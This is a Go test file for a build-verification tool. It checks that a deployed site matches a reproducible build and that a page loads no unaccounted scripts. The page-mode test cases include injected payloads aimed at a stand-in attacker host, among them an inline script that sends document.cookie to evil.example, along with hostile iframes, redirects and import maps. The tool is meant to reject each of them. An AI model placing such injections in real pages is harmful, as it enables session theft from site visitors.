package cli_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/lukium/kms-verify-action/internal/cli"
	"github.com/lukium/kms-verify-action/internal/headers"
	"github.com/lukium/kms-verify-action/internal/testkit/gitrepo"
)

// A small site whose build copies public/ to dist/ and stamps a build time
// into one file, as real releases do.
const miniBuild = `#!/bin/sh
set -eu
rm -rf dist && mkdir -p dist/assets
cp -R public/. dist/
date +%s%N > dist/build-time.txt
`

var miniSite = map[string]string{
	"build.sh":                 miniBuild,
	"public/index.html":        `<!doctype html><link rel="stylesheet" href="/assets/app.css"><script type="module" src="/assets/app.js"></script>`,
	"public/assets/app.js":     "import('./chunk.js');\n",
	"public/assets/chunk.js":   "export const lazy = 1;\n",
	"public/assets/app.css":    "body{}\n",
	"public/assets/app.js.map": "{}\n",
	"public/_headers":          "/*\n  X-Content-Type-Options: nosniff\n",
}

// siteCDN serves files (URL path -> bytes) with per-test overrides.
func siteCDN(t *testing.T, files map[string]string) (*httptest.Server, *sync.Map) {
	t.Helper()
	var hits sync.Map
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p := r.URL.Path
		if strings.HasSuffix(p, "/") {
			p += "index.html"
		}
		hits.Store(r.URL.Path, true)
		body, ok := files[p]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if path.Ext(p) == ".html" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
		}
		applyMiniHeaders(w, r)
		_, _ = w.Write([]byte(body))
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

// applyMiniHeaders sets what miniSite's _headers assigns to the request's
// path, as the host does (site mode checks that it is served).
func applyMiniHeaders(w http.ResponseWriter, r *http.Request) {
	rules, err := headers.Parse(strings.NewReader(miniSite["public/_headers"]), headers.Cloudflare)
	if err != nil {
		panic(err)
	}
	for k, v := range rules.For(r.URL.EscapedPath()) {
		w.Header()[k] = v
	}
}

// served is what the CDN serves for miniSite (without the host config).
func served() map[string]string {
	out := map[string]string{"/build-time.txt": "123\n"}
	for k, v := range miniSite {
		if rel, ok := strings.CutPrefix(k, "public/"); ok && rel != "_headers" {
			out["/"+rel] = v
		}
	}
	return out
}

func TestSiteModeSkeleton(t *testing.T) {
	t.Parallel()
	repo := gitrepo.New(t, miniSite, gitrepo.Tag{Name: "v1.0.0", Annotated: true})
	for _, tc := range []struct {
		name   string
		change func(map[string]string)
		extra  []string
		code   int
		reason string
	}{
		{name: "verified", code: cli.ExitVerified, reason: "ok"},
		{name: "a lazily loaded chunk tampered while the page is intact", change: func(m map[string]string) { m["/assets/chunk.js"] = "export const lazy = 2;\n" }, code: cli.ExitFailed, reason: "tampered"},
		{name: "a release file the CDN does not serve", change: func(m map[string]string) { delete(m, "/assets/app.css") }, code: cli.ExitInconclusive, reason: "site-file-missing"},
		// Two rebuilds stamp different times: the build is not reproducible (issue 9), never tampered.
		{name: "the build-time file not excluded", extra: []string{"--site-exclude", "**/*.map"}, code: cli.ExitInconclusive, reason: "not-reproducible"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			files := served()
			if tc.change != nil {
				tc.change(files)
			}
			srv, hits := siteCDN(t, files)
			args := []string{"verify", "--repo", repo.Dir, "--tag", "v1.0.0", "--build-command", "sh build.sh",
				"--site-dir", "dist", "--site-url", srv.URL + "/", "--allow-unsigned"}
			if tc.extra != nil {
				args = append(args, tc.extra...)
			} else {
				args = append(args, "--site-exclude", "build-time.txt", "--site-exclude", "**/*.map")
			}
			res := run(t, runOpts{}, args...)
			if res.code != tc.code {
				t.Fatalf("exit %d, want %d\n%s%s", res.code, tc.code, res.stdout, res.stderr)
			}
			if res.rep == nil || res.rep.Reason != tc.reason {
				t.Fatalf("reason %v, want %q\n%s", res.rep, tc.reason, res.stdout)
			}
			if _, ok := hits.Load("/_headers"); ok {
				t.Error("the host configuration file _headers was fetched")
			}
			if tc.code == cli.ExitVerified {
				s := res.rep.Sites[0]
				if len(s.Excluded) != 3 || len(s.Files) != 5 { // index.html twice
					t.Errorf("files %d, excluded %+v", len(s.Files), s.Excluded)
				}
				if _, ok := hits.Load("/"); !ok {
					t.Error("index.html was not fetched at the folder URL")
				}
				if !strings.Contains(res.stdout, "excluded build-time.txt") {
					t.Errorf("the summary does not list the excluded file:\n%s", res.stdout)
				}
			}
		})
	}
}

// TestPageModeAccounting: in page mode (--page-url with --artifact) every
// script or style the page loads must be accounted for too, or the run
// fails with unverified-subresource; none of these is ever verified.
func TestPageModeAccounting(t *testing.T) {
	t.Parallel()
	w := getWorld(t)
	bundle := sign(t, w, artifact, goodID(w))
	pin := fmt.Sprintf(`<script type="module" integrity="%s" src="/%s"></script>`, sri384(artifact), artifactName)
	for _, tc := range []struct {
		name   string
		page   string
		frame  string // served at /frame.html
		extra  []string
		code   int
		reason string
	}{
		{name: "a same-origin frame that loads only the pinned artifact", page: pin + `<iframe src="/frame.html"></iframe>`, frame: pin, code: cli.ExitVerified, reason: "ok"},
		{name: "a same-origin frame that loads an unlisted script", page: pin + `<iframe src="/frame.html"></iframe>`, frame: `<script src="https://evil.example/steal.js"></script>`, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a same-origin frame nested in itself is followed once", page: pin + `<iframe src="/frame.html"></iframe>`, frame: `<iframe src="/frame.html"></iframe>` + pin, code: cli.ExitVerified, reason: "ok"},
		{name: "a same-origin frame that is not served", page: pin + `<iframe src="/missing.html"></iframe>`, code: cli.ExitInconclusive, reason: "http-status"},
		{name: "only the pinned artifact", page: pin, code: cli.ExitVerified, reason: "ok"},
		{name: "an injected script without integrity", page: pin + `<script src="https://evil.example/steal.js"></script>`, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "an injected inline script", page: pin + `<script>fetch("https://evil.example/?"+document.cookie)</script>`, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "an injected event handler", page: `<body onload="steal()">` + pin, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "an inline script accepted with allow-inline is skipped, not silent", page: pin + `<script>console.log(1)</script>`, extra: []string{"--allow-inline"}, code: cli.ExitVerified, reason: "ok"},
		{name: "a base that moves the artifact elsewhere", page: `<base href="https://evil.example/">` + pin, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a meta refresh away", page: pin + `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "an import map pointing elsewhere", page: `<script type="importmap">{"imports":{"kms":"https://evil.example/kms.mjs"}}</script>` + pin, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "an unlisted cross-origin iframe", page: pin + `<iframe src="https://evil.example/frame.html"></iframe>`, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a listed cross-origin iframe", page: pin + `<iframe src="https://enclave.example.net/kms.html"></iframe>`, extra: []string{"--allow-frame", "https://enclave.example.net"}, code: cli.ExitVerified, reason: "ok"},
		{name: "an allow-listed script pinned as required", page: pin + `<script src="https://cdn.example.net/lib.js" integrity="sha384-AAAA" crossorigin></script>`,
			extra: []string{"--allow-subresource", "https://cdn.example.net/lib.js sha384-AAAA"}, code: cli.ExitVerified, reason: "ok"},
		{name: "an allow-listed script without the required pin", page: pin + `<script src="https://cdn.example.net/lib.js"></script>`,
			extra: []string{"--allow-subresource", "https://cdn.example.net/lib.js sha384-AAAA"}, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a mismatching pin in inert markup is not a failure", page: pin + `<template><script src="/x.js" integrity="sha384-bad"></script></template><script type="text/plain" src="/y.js" integrity="sha384-bad"></script><!-- <script src="https://evil.example/z.js"></script> -->`,
			code: cli.ExitVerified, reason: "ok"},
		{name: "an import map pin applies to a bare module script", page: fmt.Sprintf(`<script type="importmap">{"integrity":{"/%s":"%s"}}</script><script type="module" src="/%s"></script>`, artifactName, sri384(artifact), artifactName),
			code: cli.ExitVerified, reason: "ok"},
		{name: "a modulepreload pin applies to a bare module script", page: fmt.Sprintf(`<link rel="modulepreload" href="/%s" integrity="%s"><script type="module" src="/%s"></script>`, artifactName, sri384(artifact), artifactName),
			code: cli.ExitVerified, reason: "ok"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
				switch r.URL.Path {
				case "/kms.html":
					_, _ = io.WriteString(rw, "<!doctype html>"+tc.page)
					return
				case "/frame.html":
					_, _ = io.WriteString(rw, "<!doctype html>"+tc.frame)
					return
				case "/missing.html":
					http.NotFound(rw, r)
					return
				}
				_, _ = rw.Write(artifact)
			}))
			t.Cleanup(srv.Close)
			args := []string{"verify", "--repo", w.repo.Dir, "--tag", tag, "--build-command", "sh build.sh",
				"--artifact", "dist/kms.*.js", "--url", srv.URL + "/" + artifactName, "--page-url", srv.URL + "/kms.html",
				"--trusted-root", w.rootFile, "--signer-repo", signerRepo, "--signer-workflow", workflow, "--bundle", bundle}
			res := run(t, runOpts{}, append(args, tc.extra...)...)
			if res.code != tc.code || res.rep == nil || res.rep.Reason != tc.reason {
				reason := ""
				if res.rep != nil {
					reason = res.rep.Reason
				}
				t.Fatalf("exit %d reason %q, want %d %q\n%s%s", res.code, reason, tc.code, tc.reason, res.stdout, res.stderr)
			}
			if tc.code != cli.ExitVerified && strings.Contains(res.stdout, "VERIFICATION PASSED") {
				t.Error("a failing run says PASSED")
			}
			if slices.Contains(tc.extra, "--allow-inline") && !strings.Contains(res.stdout, "SKIPPED (unverified)") {
				t.Errorf("inline code accepted by --allow-inline is not shown as SKIPPED:\n%s", res.stdout)
			}
			if len(res.rep.Page.References) == 0 {
				t.Error("the report lists no page references")
			}
		})
	}
}
